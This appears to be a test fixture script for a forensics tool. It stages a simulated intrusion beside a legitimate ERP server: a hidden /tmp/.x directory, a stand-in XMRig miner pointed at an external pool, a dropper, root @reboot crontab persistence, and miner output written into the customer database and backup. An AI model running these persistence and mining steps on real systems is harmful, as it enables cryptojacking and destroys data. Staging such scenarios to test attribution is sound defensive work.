# The intruder names what is not his: his configuration logs to the customers' database, his dropper speaks of the backup,
# his miner holds both open. Nothing of the shop may be condemned by that.
mkdir -m 700 /tmp/.x
stand_in miner /tmp/.x/xmrig
echo 'customers, 40112 rows' > /srv/db/customers.ibd
echo 'last night of the database' > /srv/backup/x.tar
chown 1003:1003 /srv/db/customers.ibd
ln -s /srv/db/customers.ibd /tmp/.x/log
cat > /tmp/.x/config.json <<'CONFIG'
{"log-file": "/srv/db/customers.ibd", "donate-level": 1, "pools": [{"url": "198.51.100.23:3333", "user": "practice-wallet"}]}
CONFIG
cat > /tmp/.x/drop.sh <<'SCRIPT'
#!/bin/sh
# /srv/backup/x.tar
# /opt/erp/server /srv/db/customers.ibd
chmod 755 /tmp/.x/xmrig
nohup /tmp/.x/xmrig --log-file=/srv/db/customers.ibd >> /srv/backup/x.tar 2>&1 &
SCRIPT
chmod 755 /tmp/.x/drop.sh
stand_in idle /opt/erp/server 1003
as 1003 /opt/erp/server /srv/db/customers.ibd
crontab_of db 1003 '30 2 * * * tar -cf /srv/backup/x.tar /srv/db/customers.ibd'
crontab_of root 0 '@reboot /tmp/.x/drop.sh'
as 0 /bin/sh -c 'exec /tmp/.x/xmrig --donate-level=1 -k -o 198.51.100.23:3333 --log-file=/srv/db/customers.ibd \
    3>> /srv/db/customers.ibd 4>> /srv/backup/x.tar'
wait_for /tmp/.x/xmrig
wait_for /opt/erp/server
